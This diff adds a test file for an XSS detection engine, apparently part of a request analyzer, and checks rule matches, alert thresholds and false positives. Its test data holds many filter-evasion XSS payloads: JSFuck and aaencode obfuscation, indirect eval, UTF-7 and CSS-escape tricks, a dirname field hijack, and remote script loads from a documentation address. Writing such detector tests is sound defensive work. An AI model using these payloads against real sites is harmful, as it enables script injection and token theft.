@@ -1,0 +1,170 @@
+import fc from 'fast-check';
+import { Detector, InspectedValue, LEVEL_THRESHOLDS, inspectValue, ruleScore, type ValueLocation } from '../../../../../runtime/analyzer/engine/detection';
+import { MarkupEffect, SCRIPT_EFFECTS, markupEffects } from '../../../../../runtime/analyzer/engine/detection/html';
+import { xssPack } from '../../../../../runtime/analyzer/engine/detection/rules/xss';
+import { viewRequest } from '../../../../../runtime/analyzer/engine/message-view';
+import { resolveLimits } from '../../../../../runtime/analyzer/engine/limits';
+import { corpusExchange } from '../../../../bench/corpora';
+import { isScriptFree } from '../../../../bench/corpora/script-free';
+import { loadOwnCases } from '../../../../fixtures/detection-cases';
+
+/** The XSS rules a value matches (only the XSS pack: other packs do not blur the weights). */
+const xssIds = (value: string, location: ValueLocation = 'query'): number[] => {
+  const ids: number[] = [];
+  const v = new InspectedValue(location, 'q', value);
+  if (xssPack.prefilter(v)) xssPack.inspect(v, (rule) => ids.push(rule.id));
+  return ids;
+};
+
+/** The whole engine's score for one value, as the detector sums it (each distinct rule once). */
+const scoreOf = (value: string, location: ValueLocation = 'query'): number => {
+  const rules = new Map(inspectValue(new InspectedValue(location, 'q', value)).map((r) => [r.id, ruleScore(r)]));
+  return [...rules.values()].reduce((sum, score) => sum + score, 0);
+};
+const alertsAt = (level: 1 | 2 | 3 | 4, value: string, location: ValueLocation = 'query') => scoreOf(value, location) >= LEVEL_THRESHOLDS[level];
+
+/** The same payload as a query value arrives in several encodings once the placement has decoded it once. */
+const encodings = (payload: string): string[] => [payload, encodeURIComponent(payload), encodeURIComponent(encodeURIComponent(payload))];
+
+describe('XSS techniques (own knowledge, each in raw, URL and double URL encoding)', () => {
+  it.each([
+    ['browser-local res:// page with script in its fragment', 'res://ieframe.dll/navcancl.htm#,javascript:print()', 200129],
+    ['res:// probing an installed program', 'res://c:\\program files\\app\\app.exe/#2/#100', 200129],
+    ['MHTML archive read across zones', 'mhtml:http://203.0.113.9/m.mht!p.html', 200129],
+    ['CHM archive through ms-its:', 'ms-its:mhtml:file://c:/z.mht!http://203.0.113.9/h.chm::/a.html', 200129],
+    ['Firefox command-line handler', 'firefoxurl:x" -chrome "javascript:print()', 200129],
+    ['Windows Help Center', 'hcp://services/search?query=x&topic=hcp://system/sysinfo/sysinfomain.htm', 200129],
+    ['JSFuck letter from a coerced boolean', '(![]+[])[+[]]+(!![]+[])[+[]]', 200130],
+    ['JSFuck number from empty arrays', '[!+[]+!+[]+!+[]]', 200130],
+    ['"[object Object]" as a letter source', '({}+"")[!+[]+!+[]]', 200130],
+    ['jjencode start', '$=~[];$={___:++$}', 200130],
+    ['aaencode faces used as code', "c=(\uff9f\u0398\uff9f) =(\uff9f\uff70\uff9f)-(\uff9f\uff70\uff9f); (\uff9f\u0414\uff9f) ['_']", 200130],
+    ['Function on joined literals', "Function('pri'+'nt()')()", 200131],
+    ['setTimeout on joined literals', 'setTimeout("docu"+"ment.write(1)")', 200131],
+    ['comma-operator indirect eval', "(0,eval)('print()')", 200131],
+    ['comma-operator indirect alert', '(1,alert)(document.domain)', 200131],
+    ['word spelt as a base-36 number', 'top[8680439..toString(30)](1)', 200131],
+    ['letters spelt as base-36 numbers', 'self[30..toString(36)+(1234).toString(36)]', 200131],
+    ['navigation to a decoded string', "location.href=atob('amF2YXNjcmlwdDpwcmludCgp')", 200131],
+    ['with(document) reaching page globals', "with(document)write('x')", 200132],
+    ['__parent__ climbing to the window', 'x.__parent__.print()', 200132],
+    ['dynamic import of a remote module', "import('//203.0.113.9/m.js')", 200132],
+    ['jQuery loading a remote script', "$.getScript('https://203.0.113.9/j.js')", 200132],
+    ['spaced-out script tag', '< script >print()< / script >', 200134],
+    ['sink call closing a tag', 'confirm("x")>', 200135],
+    ['handler tail closing a tag', 'onfocus=go(1)>', 200135],
+  ])('%s', (_technique, payload, id) => {
+    for (const value of encodings(payload)) {
+      // Query values arrive percent-decoded once: the engine's decoding layer undoes the rest.
+      expect(xssIds(decodeURIComponent(value))).toContain(id);
+    }
+  });
+
+  it.each([
+    ['dirname naming another field', '<input name="n" value="x" dirname="csrf_token">', MarkupEffect.FormFieldHijack],
+    ['dirname on a text area', '<textarea name=t dirname=password></textarea>', MarkupEffect.FormFieldHijack],
+    ['repetition template', '<li repeat="template" repeat-start="100000">x</li>', MarkupEffect.RepetitionTemplate],
+    ['CSS hex escape of a letter in a style', '<div style="x:\\65 xpression(1)">', MarkupEffect.EvasiveSyntax],
+    ['zero-padded CSS escapes', '<div style="\\000063\\00006f lor:red">', MarkupEffect.EvasiveSyntax],
+    ['CSS escape of a non-hex letter', "<a style='no\\xss:x'>", MarkupEffect.EvasiveSyntax],
+    ['plug-in parameter loading a remote movie', '<param name="movie" value="//203.0.113.9/m.swf">', MarkupEffect.EmbeddedContent],
+  ])('markup: %s', (_technique, text, effect) => {
+    expect(markupEffects(text.toLowerCase()) & effect).toBe(effect);
+  });
+
+  it('reads markup in IMAP-style UTF-7 (`&` shifts), also with non-zero padding bits', () => {
+    expect(xssIds('&ADw-img src=z onerror=print()&AD4-')).toContain(200113);
+    // `&ADz` is "<" with its two spare bits set; each character shifted on its own.
+    expect(xssIds('&ADz-svg&ACA-onload&AD0-print()&AD4-')).toContain(200113);
+    expect(xssIds('Tom &AMP; Jerry &ADC analytics')).not.toContain(200113);
+  });
+});
+
+describe('XSS weights: weak evidence does not alert alone at level 1', () => {
+  it('alerts at level 1 on sure techniques in every placement and encoding (own cases)', () => {
+    const detector = new Detector({ level: 1 });
+    const { attacks, benign } = loadOwnCases();
+    const mine = attacks.filter((r) => r.class === 'xss');
+    expect(mine.length).toBeGreaterThan(900);
+    const alerts = (record: (typeof attacks)[number]) => detector.detect(viewRequest(corpusExchange(record), resolveLimits(undefined))).alert;
+    expect(mine.filter((r) => !alerts(r)).map((r) => r.id)).toEqual([]);
+    const look = benign.filter((r) => r.id.startsWith('own:xss:'));
+    expect(look.length).toBeGreaterThan(80);
+    expect(look.filter(alerts).map((r) => r.payload)).toEqual([]);
+  });
+
+  it('scope tricks and spaced script tags alert from level 2, or at level 1 with markup', () => {
+    for (const value of ["with(document)write('x')", '< script >x< / script >', "$.getScript('//203.0.113.9/j.js')"]) {
+      expect({ value, l1: alertsAt(1, value), l2: alertsAt(2, value) }).toEqual({ value, l1: false, l2: true });
+    }
+    expect(alertsAt(1, '<b>hi</b> < script >')).toBe(true);
+  });
+
+  it('a field hijack, a repetition template or a CSS letter escape alerts at level 1 only as injected markup', () => {
+    expect(alertsAt(1, '<input name=n dirname=csrf_token>')).toBe(true);
+    expect(alertsAt(1, '<x repeat="template" repeat-start="9">')).toBe(true);
+    expect(alertsAt(1, '<div style="\\63 olor:red">')).toBe(true);
+    expect(xssIds('<x repeat="template">')).toEqual(expect.arrayContaining([200128, 200117]));
+  });
+
+  it('script building blocks (pages load scripts this way too) never alert alone, at any level', () => {
+    const loader = "var s=document.createElement('script');s.async=true;s.src='https://cdn.example.com/t.js';document.head.appendChild(s)";
+    expect(xssIds(loader)).toEqual([200133]);
+    expect(alertsAt(4, loader)).toBe(false);
+    expect(xssIds('a=/pri/.source+/nt/.source')).toContain(200133);
+  });
+});
+
+describe('XSS look-alikes that must not match', () => {
+  it.each([
+    ['text naming the techniques', 'res:// installed software probing; firefoxurl: uri exploit (UXSS)'],
+    ['a chat message with faces', 'Thanks! (^_^) (o^_^o) (\uff9f\u0414\uff9f) see you'],
+    ['prose with a parenthesised aside', 'I agree with (window) cleaning on Fridays'],
+    ['a price with a comma', 'price (0,99) EUR'],
+    ['random ids in base 36', 'id=Math.random().toString(36).slice(2)'],
+    ['a CSS background in a query string', 'style=color:red;background-image:url(https://cdn.example.com/a.png)'],
+    ['icon font and CJK font-name escapes', "<p style=\"font-family:'\\5fae\\8f6f\\96c5\\9ed1';content:'\\f101'\">x</p>"],
+    ['Tailwind-style selector escapes', '<style>.md\\:flex{display:flex}</style>'],
+    ['an everyday SVG upload', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 22h20z" fill="#333"/></svg>'],
+    ['a form with a text direction field of its own', '<input name="comment" dir="auto">'],
+    ['text mentioning javascript', 'Learn JavaScript: the good parts (javascript tutorial)'],
+    ['a comparison in text', 'if a < b then print(a) > 0'],
+    ['a timer with a function reference', 'setTimeout(refresh, 1000)'],
+  ])('%s', (_what, value) => {
+    expect(alertsAt(1, value)).toBe(false);
+    expect(xssIds(value).filter((id) => [200127, 200128, 200129, 200130, 200131, 200132, 200134, 200135].includes(id))).toEqual([]);
+  });
+
+  it('keeps benign SVG and styled markup free of script effects', () => {
+    for (const text of [
+      '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(#g)"/></svg>',
+      '<div style="background:url(/a.jpg)">x</div>',
+      '<param name="wmode" value="transparent"><param name="movie" value="movie.swf">',
+    ]) {
+      expect(markupEffects(text.toLowerCase()) & (SCRIPT_EFFECTS | MarkupEffect.EvasiveSyntax | MarkupEffect.FormFieldHijack)).toBe(0);
+    }
+  });
+
+  it("never throws and stays bounded on arbitrary input made of the new rules' characters", () => {
+    const unit = fc.constantFrom('(', ')', '[', ']', '!', '+', '~', '$', '_', '=', '&', 'A', 'D', 'w', '-', '\\', '6', '5', '.', 't', 'o', ' ', '<', '>');
+    fc.assert(fc.property(fc.string({ unit, maxLength: 3000 }), (s) => Array.isArray(xssIds(s))));
+  });
+});
+
+describe('corpus reporting aid: script-free payloads', () => {
+  it('counts title lines, URLs and prose as script-free', () => {
+    for (const text of [
+      'IMG w/VBscript',
+      'Author URL: http://example.org/',
+      'res:// installed software probing',
+      'XML (locally hosted)',
+      'firefoxurl: uri exploit (UXSS)',
+    ])
+      expect({ text, free: isScriptFree(text) }).toEqual({ text, free: true });
+  });
+
+  it('counts markup, code, script URLs and encoded markup as carrying script', () => {
+    for (const text of ['<b>', '%3Csvg%3E', 'a(0)', 'x=1', 'javascript:x', '+ADw-script', '&ADz&AGn', 'SCRIPT w/Alert()', '&#60;b&#62;'])
+      expect({ text, free: isScriptFree(text) }).toEqual({ text, free: false });
+  });
+});
